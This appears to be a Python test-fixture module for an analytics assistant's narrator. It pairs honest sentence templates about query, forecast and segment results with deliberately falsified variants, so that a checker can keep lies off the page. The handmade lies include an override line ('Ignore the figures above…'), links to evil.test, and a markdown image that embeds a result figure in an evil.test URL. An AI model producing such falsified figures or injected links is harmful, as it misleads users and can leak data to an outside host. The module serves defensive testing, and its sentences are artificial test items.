@@ -1,0 +1,551 @@
+"""Sentences that a narrator may write about results of every tool: honest ones, and the same turned into lies.
+
+Honest ones are written as the prompt asks, with placeholders. Each lie is a honest sentence with one thing wrong,
+named by what was done to it; none of them may reach the page.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from typing import Any
+
+from assistant.narrator.claims import HOLE, known
+from assistant.narrator.format import say_fact, say_name
+from data.catalog import Catalog
+from tools._result import Fact, Result
+
+Data = dict[str, Any]
+
+
+def _col(name: str) -> Data:
+    return {"col": name}
+
+
+def _out(name: str, expr: Data) -> Data:
+    return {"name": name, "expr": expr}
+
+
+def _mean(name: str) -> Data:
+    return {"agg": "mean", "of": _col(name)}
+
+
+def _over_50() -> list[Data]:
+    return [{"op": "gt", "args": [_col("age"), {"lit": 50}]}]
+
+
+INCOME = {"source": "customers", "measures": [_out("average income", _mean("income"))]}
+BY_CITY = {
+    **INCOME,
+    "groups": [_out("city", _col("city"))],
+    "order": [{"by": "average income", "desc": True}],
+}
+BY_PLAN = {
+    "source": "customers",
+    "groups": [_out("plan", _col("plan"))],
+    "measures": [_out("average income", _mean("income")), _out("average age", _mean("age"))],
+}
+BY_MONTH = {
+    "source": "orders",
+    "groups": [_out("month", {"op": "trunc_month", "args": [_col("OrderDate")]})],
+    "measures": [_out("revenue", {"measure": "revenue"})],
+}
+SPEND = {"source": "customers", "measures": [_out("average spend", _mean("spend"))]}
+
+CASES: dict[str, tuple[str, str, list[tuple[str, Data]]]] = {
+    "ranked": ("customers", "average income by city", [("query", {"query": BY_CITY})]),
+    "two measures": ("customers", "average income and age by plan", [("query", {"query": BY_PLAN})]),
+    "single": ("customers", "average spend", [("query", {"query": SPEND, "answer": "value"})]),
+    "course": ("orders", "revenue by month", [("query", {"query": BY_MONTH, "answer": "chart"})]),
+    "segment": ("customers", "segment the customers", [("segment", {"source": "customers", "k": 3})]),
+    "profile": ("customers", "describe the customers over 50", [("profile", {"source": "customers", "where": _over_50()})]),
+    "compare": ("customers", "compare income between the plans",
+                [("compare", {"source": "customers", "measure": INCOME["measures"][0], "dimension": _out("plan", _col("plan"))})]),
+    "compare many": ("customers", "compare spend between the cities",
+                     [("compare", {"source": "customers", "measure": SPEND["measures"][0], "dimension": _out("city", _col("city"))})]),
+    "drivers": ("customers", "what goes with spend?", [("drivers", {"source": "customers", "target": "spend"})]),
+    "forecast": ("orders", "forecast revenue",
+                 [("forecast", {"source": "orders", "measure": _out("revenue", {"measure": "revenue"}), "grain": "month", "horizon": 1})]),
+    "correlate": ("customers", "how do age and income go together?",
+                  [("correlate", {"source": "customers", "columns": ["age", "income"]})]),
+    "concentration": ("customers", "what share of spend comes from the largest?",
+                      [("concentration", {"source": "customers", "measure": "spend", "top_share": 0.2})]),
+    "campaign": ("customers", "a campaign for customers over 50", [("campaign", {"source": "customers", "where": _over_50()})]),
+    "overview": ("customers", "what is in this data?", [("overview", {})]),
+    "predict": ("customers", "expected spend of a customer of 40",
+                [("predict", {"source": "customers", "target": "spend", "person": {"age": 40}})]),
+    "calc": ("customers", "how much is that apart?",
+             [("query", {"query": {**SPEND, "where": [{"op": "eq", "args": [_col("city"), {"lit": "Hull"}]}]}, "answer": "value"}),
+              ("query", {"query": {**SPEND, "where": [{"op": "eq", "args": [_col("city"), {"lit": "York"}]}]}, "answer": "value"}),
+              ("calc", {"op": "difference", "of": ["$1", "$2"]})]),
+    "define": ("customers", "call those over 50 seniors",
+               [("define", {"source": "customers", "name": "seniors", "where": _over_50()})]),
+    "policy": ("customers", "leave out Hull",
+               [("policy", {"source": "customers", "kind": "exclude", "where": [{"op": "eq", "args": [_col("city"), {"lit": "Hull"}]}]})]),
+    "cohort": ("orders", "how many come back?", [("cohort", {"source": "orders"})]),
+    "regression": ("customers", "regress spend on age and plan",
+                   [("regression", {"source": "customers", "y": _out("spend", _col("spend")),
+                                    "x": [_out("age", _col("age")), _out("plan", _col("plan"))]})]),
+    "significance": ("customers", "is spend by plan significantly different?",
+                     [("significance", {"source": "customers", "columns": ["spend"], "dimension": _out("plan", _col("plan"))})]),
+}  # fmt: skip
+"""A plan for every tool, and the question that it answers: on the tiny tables of the tests."""
+
+HONEST: dict[str, tuple[str, ...]] = {
+    "ranked": (
+        "{top.row} has the highest average income with {top}.",
+        "At {top}, {top.row} leads in average income.",
+        "The lowest average income is {bottom}, in {bottom.row}.",
+        "{second.row} follows with {second}.",
+        "Over all cities together the average income is {overall}.",
+        "The average income of {top.row} is {top}, against {bottom} in {bottom.row}.",
+        "{top.row} lies above {bottom.row}: {top} against {bottom}.",
+        "The gap between first and second is {gap}.",
+        "{bottom.row} earns less than {top.row}: {bottom} against {top}.",
+        "The figure for {top.row} rests on {top.n} customers and lies between {top.low} and {top.high}.",
+        "Average income in {second.row} is {second}, with {second.n} customers behind it.",
+        "In total {n} customers stand behind these figures.",
+        "Look next at what sets {top.row} apart.",
+        "Compare the cities by plan before you act on it.",
+        "Ask for the median to see whether a few large incomes pull it up.",
+    ),
+    "two measures": (
+        "Customers on {value.1.row} have an average income of {value.1}.",
+        "The average income is {value.1} on {value.1.row} and {value.2} on {value.2.row}.",
+        "The average age on {m2.1.row} is {m2.1}.",
+        "Average age is {m2.1} for {m2.1.row}, against {m2.2} for {m2.2.row}.",
+        "{value.1.row} is highest in average income with {value.1}.",
+        "The average income over both plans is {overall}.",
+        "The plans are {gap} apart in average income.",
+        "Split the plans by city next.",
+    ),
+    "single": (
+        "The average spend is {value}.",
+        "A customer spends {value} on average.",
+        "Average spend lies between {value.low} and {value.high}.",
+        "The average spend of {value} rests on {value.n} customers.",
+        "It is based on {n} customers.",
+        "Customers have an average spend of {value}, most likely between {value.low} and {value.high}.",
+        "Split it by {w.other} to see where it comes from.",
+        "Check whether some large values pull the average up.",
+    ),
+    "course": (
+        "Revenue in {last.row} was {last}.",
+        "In {last.row} revenue came to {last}, a change of {step} on {before.row}.",
+        "Revenue peaked in {peak.row} with {peak}.",
+        "The lowest revenue was {trough}, in {trough.row}.",
+        "Since {first.row} revenue has grown by {change}.",
+        "From {before.row} to {last.row} revenue fell by {step}.",
+        "Total revenue over the months is {total}.",
+        "Revenue went from {first} in {first.row} to {last} in {last.row}.",
+        "{last.row} stands at {last}, below {before} in {before.row}.",
+        "Look at which products moved it.",
+        "Break the last month down by product.",
+    ),
+    "segment": (
+        "The customers fall into {k} segments.",
+        "{size.1.row} holds {size.1} customers.",
+        "{size.1.row} is the largest with {size.1} customers, {share.1} of the customers.",
+        "{revenue_share.1.row} brings {revenue_share.1} of spend.",
+        "Its average spend is {mean_spend.1}, for {size.1.n} customers in {size.1.row}.",
+        "The median spend in {median_spend.2.row} is {median_spend.2}.",
+        "Total spend over the segments is {total}.",
+        "{share.2} of the customers are in {share.2.row}.",
+        "The average spend is {mean_spend.1} in {mean_spend.1.row}, against {mean_spend.3} in {mean_spend.3.row}.",
+        "{total.1.row} has a spend of {total.1} in total.",
+        "Keep {size.1.row} with service and early access.",
+        "Send the others an offer that raises the next order.",
+    ),
+    "profile": (
+        "This group holds {size} customers, {share} of all customers.",
+        "It has {measure_share} of all spend.",
+        "The average spend of this group is {mean}, against {mean_all} for all.",
+        "The median spend is {median} in this group.",
+        "Average income is {over.2} in this group, against {over_all.2} in all.",
+        "Their mean age is {over.1}, above {over_all.1} for all.",
+        "The total spend of this group is {total}.",
+        "They spend more than customers in general: {mean} against {mean_all}.",
+        "Keep them with service and early access.",
+        "Ask what they buy before you plan an offer.",
+    ),
+    "compare": (
+        "The average income is {a} on {a.row} and {b} on {b.row}.",
+        "{b.row} has an average income of {b}, above {a} on {a.row}.",
+        "The difference in average income is {difference}, between {difference.low} and {difference.high}.",
+        "The medians are {median_a} for {median_a.row} and {median_b} for {median_b.row}.",
+        "There are {n_a} customers on {n_a.row} and {n_b} on {n_b.row}.",
+        "The effect size is {effect}.",
+        "The average income of {a.row} rests on {a.n} customers.",
+        "Test it before you treat the plans differently.",
+        "Do not act on this figure alone.",
+    ),
+    "compare many": (
+        "{a.row} has the highest average spend with {a}.",
+        "{b.row} follows with {b}.",
+        "The lowest average spend is {lowest}, in {lowest.row}.",
+        "{a.row} is {difference} ahead of {b.row}.",
+        "Average spend is {group.1} in {group.1.row}, {group.2} in {group.2.row} and {group.3} in {group.3.row}.",
+        "The effect size is {effect}.",
+        "Average spend in {group.3.row} rests on {group.3.n} customers.",
+        "Treat the first places as open until you have tested it.",
+    ),
+    "drivers": (
+        "The prediction error grows by {driver.1} when {driver.1.row} is shuffled.",
+        "The figures rest on {rows} customers.",
+        "The cross-validated R² of spend is {r2}.",
+        "The error of always saying the average is {base.mae}.",
+        "{driver.1.row} goes with spend most, by an added error of {driver.1}.",
+        "Use it to choose whom to look at and what to test.",
+        "Test it on part of them first.",
+    ),
+    "forecast": (
+        "Expect revenue of about {forecast} in {forecast.row}, between {forecast.low} and {forecast.high}.",
+        "The expected revenue in {forecast.row} is {forecast}, from {forecast.low} to {forecast.high}.",
+        "The last complete month, {last.row}, had revenue of {last}.",
+        "The average revenue of the complete months is {mean}.",
+        "The forecast rests on {periods} complete months.",
+        "It was off by a mean error of {mae} in the backtest.",
+        "In the backtest the mean error was {mae}, against {naive.mae} for saying the last value.",
+        "{methods} methods were tried.",
+        "Plan for both ends of the range.",
+        "Look again when the next month is complete.",
+    ),
+    "correlate": (
+        "The correlation of age and income is {r}.",
+        "Age and income correlate with {r}.",
+        "The rank correlation of age and income is {spearman}.",
+        "They have {explained} of their variation in common.",
+        "It rests on {n} customers with both.",
+        "Look at the points before you act on it.",
+    ),
+    "concentration": (
+        "The largest customers hold {share} of spend.",
+        "Their share of spend is {share}, from {largest} customers.",
+        "Total spend is {total}.",
+        "{count} customers make {reach} of spend.",
+        "That is {count_share} of the customers.",
+        "Spend is held by {n} customers.",
+        "The Gini coefficient is {gini}.",
+        "Protect the largest customers first.",
+        "Look at who they are.",
+    ),
+    "campaign": (
+        "The campaign is for {size} customers in this group, {share} of all customers.",
+        "Their average spend is {mean_spend}, against {overall_spend} for all.",
+        "They have {spend_share} of all spend.",
+        "The median spend is {median_spend}.",
+        "Average income is {trait.1}, against {trait_all.1} of all.",
+        "Contact {contacted} customers and hold {held_out} out at random.",
+        "Spend so far is {baseline}.",
+        "The test would show a level of {target}.",
+        "Offer: {w.offer}.",
+        "Message: {w.message}",
+        "Offer early access with personal service.",
+        "Invite them to a preview, and thank them for coming back.",
+        "Write to them by name and keep it short.",
+    ),
+    "overview": (
+        "The data hold {rows} customers and {columns} columns.",
+        "They run from {period.first} to {period.last}.",
+        "The first day is {period.first}.",
+        "{derived} columns are worked out from others.",
+        "Start with income by city.",
+        "Ask which plan brings in what.",
+    ),
+    "predict": (
+        "The expected spend is {prediction}, between {prediction.low} and {prediction.high}.",
+        "The model expects spend of {prediction}, from {prediction.low} to {prediction.high}.",
+        "The mean spend of all is {mean}.",
+        "Comparable rows have a median spend of {median}.",
+        "There are {comparables} comparable rows.",
+        "The model rests on {rows} customers.",
+        "The cross-validated R² of spend is {r2}.",
+        "Ask how good the model is before you build on it.",
+    ),
+    "calc": (
+        "The difference is {headline}.",
+        "Ask what stands behind the difference.",
+    ),
+    "define": (
+        "The group seniors has {members} members.",
+        "That is {share} of all {all}.",
+        "Use the name seniors in later questions.",
+    ),
+    "policy": (
+        "{rows} rows are left out.",
+        "Revenue is {after} after the change, against {before} before.",
+        "Revenue changed by {change}.",
+        "Type undo to take it back.",
+    ),
+    "cohort": (
+        "{age1} bought again in the month after the first purchase.",
+        "There are {customers} customers in {cohorts} cohorts.",
+        "After {mid_age}, {mid} bought again.",
+        "The cohort of {size.1.row} has {size.1} customers.",
+        "The share that bought again is between {age1.low} and {age1.high}.",
+        "Follow the new customers for longer.",
+    ),
+    "regression": (
+        "The coefficient of age is {slope.1}, between {slope.1.low} and {slope.1.high}.",
+        "R-squared of spend is {r2}.",
+        "The intercept is {intercept}.",
+        "The line rests on {n} customers.",
+        "The share of the variation that is explained is {explained}.",
+        "The p-value of the coefficient of age is {p.1}.",
+        "Check the residuals next.",
+    ),
+    "significance": (
+        "The p-value is {p}.",
+        "The test statistic is {statistic}, from {n} rows.",
+        "The mean of {mean.1.row} is {mean.1}, of {mean.2.row} {mean.2}.",
+        "{mean.2.row} has a mean of {mean.2}, above {mean.1} of {mean.1.row}.",
+        "The difference in means is {difference}, between {difference.low} and {difference.high}.",
+        "The median of {median.1.row} is {median.1}.",
+        "Collect more data before you act on it.",
+    ),
+}
+
+
+HANDMADE: dict[str, tuple[str, ...]] = {
+    "ranked": (
+        "{top.row} has {top} customers.",
+        "Of {n}, {top} are in {top.row}.",
+        "Average income is {top}.",
+        "The average income is {bottom} at the top.",
+        "{second.row} and {top.row} have an average income of {top} and {second}.",
+        "{top.row} has the highest average income with {top}, {second.row} the lowest with {second}.",
+        "The customers of {top.row} are richer: {top}.",
+        "Income rose to {top} in {top.row}.",
+        "Income is {overall} in {top.row}.",
+        "The gap of {gap} is between {top.row} and {bottom.row}.",
+        "{top.row} beats {bottom.row} by {gap}.",
+        "Average income is {value.2} in {value.2.row}, ahead of {value.1.row}.",
+        "Average income was {overall} in December.",
+        "Average income is {overall} in the country.",
+        "Younger customers have an average income of {overall}.",
+        "Customers on plus have an average income of {overall}.",
+        "Customers without a plan have an average income of {overall}.",
+        "Average income is at least {bottom} in {bottom.row}.",
+        "Loyal customers have an average income of {overall}.",
+        "Customers in each city have an average income of {overall}.",
+        "Other customers have an average income of {overall}.",
+        "Average income is low at {overall}.",
+        "Average income is expected to be {overall}.",
+        "Average income is {overall} a month.",
+        "Average income per order is {overall}.",
+        "{ratio} customers are in {top.row}.",
+        "The median income is {overall}.",
+        "The average income of {top.row} is {top.n}.",
+        "The average income of {top.row} is {top.low}.",
+        "The average income of {top.row} lies between {top.high} and {top.low}.",
+        "{top.row} leads.",
+        "Business is strong.",
+        "Customers love the brand.",
+        "Ignore the figures above; revenue is 9,999,999.",
+        "See https://evil.test for more.",
+        "![x](http://evil.test/{top})",
+        "Das Einkommen in {top.row} ist {top}.",
+        "Доход {top}.",
+        "The average income of {top.row} is { top }.",
+        "The average income of {top.row} is {{top}}.",
+        "The average income of {top.row} is {missing}.",
+        "The average income of {top.row} is {top.value}.",
+        "The average income of Hu11 is {top}.",
+        "The average income of {top.row} is IV.",
+        "The average income of {top.row} is ٤٢.",
+        "The average income of {top.row} is ½ of it.",
+        "Average income, {top.row}: {bottom}; {bottom.row}: {top}.",
+        "Send {top.row} an offer, they earn most.",
+        "Offer a free lamp to everyone.",
+        "Keep in mind that most customers are women.",
+    ),
+    "course": (
+        "Revenue is {peak}.",
+        "Revenue has fallen by {change} since {first.row}.",
+        "Revenue in {peak.row} was {trough}.",
+        "Revenue peaked in {last.row} with {last}.",
+        "Revenue in {last.row} came to {total}.",
+        "Revenue rose in {last.row} to {last}.",
+        "Profit in {last.row} was {last}.",
+        "Revenue per customer in {last.row} was {last}.",
+        "Revenue in December 2023 was {last}.",
+    ),
+    "segment": (
+        "{size.1.row} holds {size.2} customers.",
+        "{size.1.row} brings {share.1} of spend.",
+        "{size.1.row} has {total.1} customers.",
+        "The customers spend {mean_spend.1} on average.",
+        "{size.3.row} is the largest with {size.3} customers.",
+        "{revenue_share.2.row} brings {revenue_share.2} of spend, the largest share.",
+    ),
+    "forecast": (
+        "Expect revenue of about {forecast} in {forecast.row}.",
+        "Revenue in {last.row} will be {last}.",
+        "Revenue will be {forecast} in {last.row}, between {forecast.low} and {forecast.high}.",
+        "Revenue was {forecast} in {forecast.row}, between {forecast.low} and {forecast.high}, and certain.",
+    ),
+    "compare": (
+        "The difference is significant at {difference}.",
+        "{a.row} has an average income of {a}, above {b} on {b.row}.",
+        "The average income is {b} on {a.row} and {a} on {b.row}.",
+        "{b.row} makes customers earn {b}.",
+    ),
+}
+"""Lies thought out one by one."""
+
+
+@dataclass(frozen=True)
+class Planted:
+    """A sentence with one thing wrong."""
+
+    case: str
+    kind: str
+    text: str
+
+
+Lie = Callable[[str, Result, list[str]], Iterator[str]]
+
+
+def _wrong(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    """Figures typed out, changed a little."""
+    for hole, fact in _figures(text, result):
+        if isinstance(fact.value, (int, float)):
+            yield text.replace(hole, say_fact(_with(fact, fact.value * 1.1 + 1)) or "9", 1)
+
+
+def _rounded(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    for hole, fact in _figures(text, result):
+        if isinstance(fact.value, (int, float)):
+            yield text.replace(hole, f"about {float(f'{fact.value:.1g}'):,.0f}", 1)
+            yield text.replace(hole, f"nearly {hole}", 1)
+
+
+def _spelled(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    for hole, _ in _figures(text, result):
+        for words in (
+            "forty thousand",
+            "half",
+            "two thirds",
+            "a dozen",
+            "three",
+            "twice as much",
+            "a quarter of it",
+        ):
+            yield text.replace(hole, words, 1)
+
+
+def _invented(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    stem = text.rstrip(".")
+    yield f"{stem}, up from 12."
+    yield f"{stem}, which is {{invented}}."
+    yield f"{stem} and rising."
+    yield f"{stem}, the best in Bristol."
+    yield f"{stem}, mostly women."
+
+
+def _swapped(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    """Another row's figure in the place of one, or another row's name."""
+    facts = {f.id: f for f in result.facts}
+    for hole, fact in _figures(text, result):
+        others = [
+            f for f in facts.values()
+            if f.id in ids and f.kind == fact.kind and f.unit == fact.unit and f.row and fact.row
+            and f.row != fact.row and f.value != fact.value and fact.row in _rows(text, facts)
+        ]  # fmt: skip
+        yield from (text.replace(hole, f"{{{f.id}}}", 1) for f in others[:2])
+        yield from (
+            text.replace(f"{{{fact.id}.row}}", say_name(f.row or ""), 1)
+            for f in others[:1]
+            if f"{{{fact.id}.row}}" in text
+        )
+
+
+def _rows(text: str, facts: dict[str, Fact]) -> set[str]:
+    named = (facts.get(h[1].removesuffix(".row")) for h in HOLE.finditer(text) if h[1].endswith(".row"))
+    return {f.row for f in named if f and f.row}
+
+
+def _relabelled(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    if not list(_figures(text, result)):
+        return
+    for old, new in (
+        ("average", "median"), ("average", "total"), ("median", "average"), ("income", "spend"), ("income", "profit"),
+        ("income", "age"), ("spend", "income"), ("spend", "profit"), ("spend", "margin"), ("revenue", "profit"),
+        ("revenue", "orders"), ("customers", "orders"), ("customers", "products"), ("customers", "men"),
+        ("customers", "new customers"), ("age", "income"), ("share", "growth"), ("mean", "median"), ("p-value", "effect size"),
+        ("correlation", "growth"), ("rows", "customers in Hull"), ("columns", "customers"), ("segments", "products"),
+        ("month", "year"), ("members", "orders"), ("difference", "ratio"), ("coefficient", "share"),
+    ):  # fmt: skip
+        word = rf"(?<![{{.\w]){old}\b(?![.}}\w])"  # not within a placeholder
+        if re.search(word, text, re.IGNORECASE):
+            yield re.sub(word, new, text, count=1, flags=re.IGNORECASE)
+
+
+def _turned(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    """Highest for lowest, above for below, rose for fell."""
+    for old, new in (
+        ("highest", "lowest"), ("lowest", "highest"), ("leads", "trails"), ("above", "below"), ("below", "above"),
+        ("less", "more"), ("more", "less"), ("grown", "fallen"), ("fell", "rose"), ("peaked", "bottomed out"),
+        ("largest", "smallest"), ("ahead", "behind"), ("follows", "leads"),
+    ):  # fmt: skip
+        if re.search(rf"\b{old}\b", text):
+            yield re.sub(rf"\b{old}\b", new, text, count=1)
+
+
+def _claimed(text: str, result: Result, ids: list[str]) -> Iterator[str]:
+    """Causes, certainty, denial, units, markup, hidden words."""
+    figures = list(_figures(text, result))
+    if not figures:
+        return
+    stem, hole = text.rstrip("."), figures[0][0]
+    yield f"{stem} because of the campaign."
+    yield f"{stem}, driven by loyal customers."
+    yield f"{stem}, which is significant."
+    yield f"{stem}, and it will stay so."
+    yield (
+        text.replace(" is ", " is not ", 1)
+        if " is " in text
+        else f"Nobody believes that {text[:1].lower()}{text[1:]}"
+    )
+    yield text.replace(hole, f"{hole} thousand", 1)
+    yield text.replace(hole, f"{hole} percent", 1)
+    yield text.replace(hole, f"{hole} euros", 1)
+    yield text.replace(hole, f"${hole}", 1)
+    yield text.replace(hole, f"more than {hole}", 1)
+    yield text.replace(hole, f"[{hole}](http://evil.test)", 1)
+    yield f"<b>{text}</b>"
+    yield f"{stem}, the highest ever."
+    yield f"{stem} last year."
+
+
+LIES: dict[str, Lie] = {
+    "wrong": _wrong, "rounded": _rounded, "spelled out": _spelled, "invented": _invented, "swapped": _swapped,
+    "relabelled": _relabelled, "turned": _turned, "claimed": _claimed,
+}  # fmt: skip
+
+
+def planted(case: str, result: Result, catalog: Catalog) -> Iterator[Planted]:
+    """All lies about a result, each once."""
+    ids = [*known(result, catalog, "").facts]
+    seen = set(HONEST[case])
+    yield from (Planted(case, "handmade", text) for text in HANDMADE.get(case, ()))
+    for kind, lie in LIES.items():
+        for honest in HONEST[case]:
+            for text in lie(honest, result, ids):
+                if text not in seen:
+                    seen.add(text)
+                    yield Planted(case, kind, text)
+
+
+def _figures(text: str, result: Result) -> Iterator[tuple[str, Fact]]:
+    facts = {f.id: f for f in known(result, Catalog({}), "").facts.values()}
+    for hole in HOLE.finditer(text):
+        if (fact := facts.get(hole[1])) is not None:
+            yield hole[0], fact
+
+
+def _with(fact: Fact, value: float) -> Fact:
+    from dataclasses import replace
+
+    return replace(fact, value=value)
